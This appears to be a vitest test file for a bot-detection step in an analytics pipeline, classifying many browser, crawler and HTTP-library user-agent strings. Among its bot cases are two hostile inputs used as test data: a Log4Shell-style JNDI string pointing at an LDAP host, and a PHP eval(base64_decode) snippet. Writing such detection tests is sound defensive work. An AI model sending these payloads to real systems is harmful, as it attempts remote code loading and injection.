import { describe, expect, test } from "vitest";
import { type TestEvent, testBatch } from "../../../test/kit/batches.ts";
import { testContext } from "../../../test/kit/step-context.ts";
import { BatchView } from "../../event/batch-view.ts";
import { open } from "../../event/seal.ts";
import { BOT_COLUMNS } from "../../store/event-columns.ts";
import { process } from "./process.ts";

/** What the step says of each event of a batch: undefined for people, the columns of a bot. */
function verdicts(events: readonly Partial<TestEvent>[]) {
  const all = events.map((fields) => ({ merchantId: 1, time: 1, ...fields }));
  const { sealed, batch } = open(testBatch(all, { partition: 0 }).bytes);
  const { isBot, bot } = process(new BatchView(sealed!.batchId, batch!), testContext());
  return events.map((_, row) => {
    const texts = bot.texts[bot.keys?.[row] ?? 0];
    expect(texts !== undefined).toBe(isBot[row] === 1);
    return texts && Object.fromEntries(BOT_COLUMNS.map((column, at) => [column, texts[at]]));
  });
}

const isBot = (fields: Partial<TestEvent>): boolean => verdicts([fields])[0] !== undefined;

const CHROME =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36";
const ANDROID = (model: string) =>
  `Mozilla/5.0 (Linux; Android 10; ${model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36`;
const IPHONE =
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148";
const TIED: Partial<TestEvent>[] = [{ visitorId: "v" }, { sessionId: "s" }, { order: { id: "o" } }];

describe("people's browsers are none, whatever their devices and apps are called", () => {
  test.each([
    CHROME,
    // Phones and televisions of device-detector's fixtures whose names have a crawler's word in them.
    "Mozilla/5.0 (Linux; U; Android 4.2.2; it-it; S222 Build/CUBOT) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
    ANDROID("M bot 54"),
    ANDROID("Discovery DG500 Build/JOP40D"),
    ANDROID("Superion Radar Deluxe Build/NRD90M"),
    ANDROID("CPH2655 Build/AP3A.240617.008"),
    ANDROID("HTC Butterfly Build/JDQ39"),
    ANDROID("BYD-E6(Spider) Build/1"),
    "Mozilla/5.0 (Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.140 Safari/537.36 OPR/46.0.2207.0 OMI/4.21.4.112.Catcher4.49 Model/Hisense-MT9602 VIDAA/5.0(Hisense;SmartTV;50A6BG;MTK9602/V0000.01.00S.L1206;HE50A6)",
    "Mozilla/5.0 (Linux; Android 11; OK Google TV Build/RTM7.230903.015; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/129.0.6668.100 Mobile Safari/537.36",
    // Browsers and apps that share a name with a crawler.
    `${ANDROID("M40SE; wv")} SogouMSE,SogouMobileBrowser/6.1.5`,
    `${CHROME.replace("Safari", "YaBrowser/24.7.0 Safari")}`,
    `${IPHONE} [FBAN/FBIOS;FBAV/470.0.0.40.95;FBDV/iPhone14,2]`,
    `${IPHONE} [Pinterest/iOS]`,
    `${IPHONE} [LinkedInApp]/9.29.7462`,
    `${IPHONE} GSA/327.0.649 Safari/604.1`,
    `${IPHONE} Snapchat/12.94.0.45 (like Safari/8617.2.4, panda)`,
    `${ANDROID("SM-S918B")} DuckDuckGo/5`,
    `${ANDROID("V2")} baiduboxapp/13.52.0.10 (Baidu; P1 10)`,
    "Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/126.3.1 like Chrome/126.0.6478.134 Safari/537.36",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; chromeframe/19.0.1084.52)",
    CHROME.toLowerCase(),
  ])("%s", (userAgent) => expect(isBot({ userAgent })).toBe(false));
});

describe("crawlers and driven browsers are, whatever else the event tells", () => {
  test.each([
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    CHROME.replace("Chrome/", "HeadlessChrome/"),
    `${CHROME} Playwright/1.50`,
    "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) PhantomJS/1.9.2 Safari/534.34",
    // What crawler-user-agents and device-detector's fixtures call bots though it looks like a browser.
    `${CHROME} GTmetrix`,
    `${CHROME} Assetnote/1.0.0`,
    "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) HLB/1.247",
    "Mozilla/5.0 (X11; Linux x86_64) Miniature.io/6.0 AppleWebKit/537.36 (KHTML, like Gecko) QtWebEngine/5.12.4 Chrome/69.0.3497.128 Safari/537.36",
    CHROME.replace("Chrome/", "YLT Chrome/"),
    // Crawlers that say that they are phones, also within the phone's name.
    `${ANDROID("Nexus 5X Build/MMB29P")} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`,
    ANDROID("Nexus 5X Build/MMB29P; AdsBot-Google-Mobile; +http://www.google.com/mobile/adsbot.html"),
    ANDROID("Pixel 2 Build/OPD3.170816.012; Storebot-Google/1.0"),
    `${ANDROID("SM-G930V")} SyntheticsAgent/1670084315573`,
    `${ANDROID("X")} SomeNewBot/1.0`,
    "gptbot/1.2",
    `Mozilla/5.0 ($${"{"}jndi:ldap://198.51.100.1/a})`,
    "<?php eval(base64_decode('cGFzc3RocnU')); ?>",
  ])("%s", (userAgent) => {
    for (const tied of [{}, ...TIED]) expect(isBot({ userAgent, ...tied })).toBe(true);
  });
});

describe("no agent, or that of an HTTP library: only where nothing ties the event to a visitor", () => {
  test.each([
    "",
    "curl/8.5.0",
    "python-requests/2.31",
    "Go-http-client/2.0",
    "node",
    "connect-es/2.0",
    "okhttp/4.12",
    "ShopApp/3.1 okhttp/4.12",
  ])("%j", (userAgent) => {
    expect(isBot({ userAgent })).toBe(true);
    for (const tied of TIED) expect(isBot({ userAgent, ...tied })).toBe(false);
  });
});

test("in one batch each row has its own", () => {
  const rows = verdicts([
    { userAgent: CHROME },
    { userAgent: "" },
    { userAgent: "GPTBot/1.2" },
    { userAgent: "curl/8.5.0", visitorId: "v" },
    { userAgent: "curl/8.5.0" },
    { userAgent: "", sessionId: "s" },
    { userAgent: "GPTBot/1.2" },
  ]);
  expect(rows.map((bot) => bot && `${bot.bot_name} ${bot.bot_kind}`)).toEqual([
    undefined,
    "null other",
    "GPTBot ai_crawler",
    undefined,
    "curl library",
    undefined,
    "GPTBot ai_crawler",
  ]);
});
